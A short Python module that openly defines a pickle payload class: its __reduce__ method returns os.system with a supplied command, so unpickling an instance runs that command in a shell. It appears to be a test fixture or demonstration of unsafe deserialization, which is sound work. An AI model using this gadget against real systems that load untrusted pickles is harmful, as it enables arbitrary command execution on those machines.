"""A pickle that executes a command where it is loaded without care."""

from __future__ import annotations

import os


class RunsCode:
    """Loading a pickle of it executes `command` in a shell."""

    def __init__(self, command: str) -> None:
        self.command = command

    def __reduce__(self) -> tuple[object, tuple[str]]:
        return os.system, (self.command,)
